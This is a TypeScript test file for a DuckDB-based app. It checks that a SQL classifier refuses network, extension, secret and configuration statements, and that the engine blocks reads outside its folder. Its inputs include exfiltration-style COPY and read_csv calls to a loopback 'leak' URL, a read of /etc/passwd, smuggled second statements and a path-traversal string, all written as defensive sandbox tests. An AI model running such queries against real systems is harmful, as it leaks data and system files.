import { describe, expect, it } from 'vitest';
import { importPath, rows, useEngine } from '../helpers/engine';
import { FILE_DIR, StatementRefusedError } from '../../src/engine/engine';
import { refusedStatement } from '../../src/sql/statement-kind';

const kind = (sql: string) => refusedStatement(sql)?.keyword ?? null;

describe('statements a person may not run', () => {
  it.each([
    ["INSTALL httpfs", 'INSTALL'],
    ["force install httpfs", 'FORCE INSTALL'],
    ["LOAD httpfs", 'LOAD'],
    ["ATTACH 'http://127.0.0.2/db.duckdb' AS x", 'ATTACH'],
    ["DETACH x", 'DETACH'],
    ["COPY (SELECT 1) TO 'http://127.0.0.2/out.csv'", 'COPY'],
    ["copy t from 'x.csv'", 'COPY'],
    ["EXPORT DATABASE 'x'", 'EXPORT'],
    ["IMPORT DATABASE 'x'", 'IMPORT'],
    ["SET enable_external_access = true", 'SET'],
    ["set variable x = 1", 'SET'],
    ["RESET enable_external_access", 'RESET'],
    ["PRAGMA enable_profiling", 'PRAGMA enable_profiling'],
    ["PRAGMA threads = 1", 'PRAGMA threads'],
    ["CALL enable_logging()", 'CALL enable_logging'],
    // Hidden behind comments, other statements, parentheses, EXPLAIN ANALYZE (which runs it).
    ["SELECT 1; ATTACH 'x' AS y", 'ATTACH'],
    ["/* hello */ -- note\nCOPY (SELECT 1) TO 'x'", 'COPY'],
    ["/* nested /* twice */ still */ SET threads = 1", 'SET'],
    ["SELECT 'it''s; fine'; SET x = 1", 'SET'],
    ["SELECT \"a;b\" FROM t;\n\tLoad httpfs;", 'LOAD'],
    ["SELECT E'\\'; ATTACH' AS a; detach d", 'DETACH'],
    ["SELECT $$ ; $$ AS a; INSTALL x", 'INSTALL'],
    ["EXPLAIN ANALYZE COPY (SELECT 1) TO 'x'", 'COPY'],
    ["(COPY (SELECT 1) TO 'x')", 'COPY'],
    // Secrets are credentials for other hosts.
    ["CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 'v')", 'CREATE SECRET'],
    ["create or replace persistent secret s (TYPE http)", 'CREATE SECRET'],
    ["CREATE TEMPORARY SECRET s (TYPE http)", 'CREATE SECRET'],
    ["DROP SECRET s", 'DROP SECRET'],
    ["DROP PERSISTENT SECRET IF EXISTS s", 'DROP SECRET'],
  ])('%s', (sql, expected) => {
    expect(kind(sql)).toBe(expected);
  });

  it.each([
    'SELECT 1',
    "SELECT 'SET x = 1; ATTACH y' AS text",
    'SELECT "copy", "set" FROM t',
    '-- ATTACH x\nSELECT 1',
    '/* COPY (SELECT 1) TO x */ SELECT 1',
    "SELECT $tag$ INSTALL $tag$",
    'WITH copy AS (SELECT 1) SELECT * FROM copy',
    "PRAGMA table_info('t')",
    'PRAGMA show_tables',
    "CALL pragma_table_info('t')",
    'CREATE TABLE x AS SELECT 1; INSERT INTO x VALUES (2); SELECT * FROM x',
    'CREATE TABLE secret (a INT)',
    'DROP TABLE secret',
    'DESCRIBE t',
    'FROM t SELECT count(*)',
    '',
  ])('runs: %s', (sql) => {
    expect(kind(sql)).toBeNull();
  });

  it('marks the keyword where it is written', () => {
    const sql = 'SELECT 1;\n  attach x';
    const r = refusedStatement(sql)!;
    expect(sql.slice(r.from, r.to)).toBe('attach');
  });
});

describe('the engine has no network and no file system of its own', () => {
  const engine = useEngine();

  it('is locked at start: external access off, only the app folder allowed, no extension fetched', async () => {
    const [s] = await rows(
      engine(),
      "SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked, current_setting('autoinstall_known_extensions') AS inst, current_setting('autoload_known_extensions') AS load, CAST(current_setting('allowed_directories') AS VARCHAR) AS dirs",
    );
    expect(s).toEqual({ ext: false, locked: true, inst: false, load: false, dirs: `[${FILE_DIR}]` });
  });

  it.each([
    "SELECT * FROM read_csv('http://127.0.0.2:9/leak.csv?d=1')",
    "SELECT * FROM 'http://127.0.0.2:9/x.parquet'",
    "SELECT * FROM read_text('http://127.0.0.2:9/x')",
    "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM glob('/*')",
    `SELECT * FROM read_csv('${FILE_DIR}../http://127.0.0.2:9/x.csv')`,
  ])('refuses to read outside the app folder: %s', async (sql) => {
    await expect(engine().run(sql)).rejects.toThrow(/Permission Error|disabled by configuration|Table with name http/);
  });

  it('refuses to turn the lock off, even through the import connection', async () => {
    await expect(engine().run('SET enable_external_access = true')).rejects.toThrow(/configuration has been locked/);
    await expect(engine().run('RESET allowed_directories')).rejects.toThrow(/configuration has been locked/);
    await expect(engine().run("SET allowed_directories = ['/']")).rejects.toThrow(/configuration has been locked/);
  });

  it('refuses user statements before the engine sees them', async () => {
    await expect(engine().query("SELECT 1; ATTACH 'x' AS y")).rejects.toBeInstanceOf(StatementRefusedError);
    await expect(engine().view('SET threads = 1')).rejects.toBeInstanceOf(StatementRefusedError);
  });

  it("still loads the app's own files, registered under its folder", async () => {
    const result = await importPath(engine(), 'tests/fixtures/Tiếp công dân 2022.csv');
    const [{ n }] = await rows(engine(), `SELECT count(*)::INT AS n FROM "${result.name}"`);
    expect(n).toBeGreaterThan(0);
    await expect(engine().registerFile('elsewhere.csv', new Uint8Array())).rejects.toThrow(FILE_DIR);
  });
});
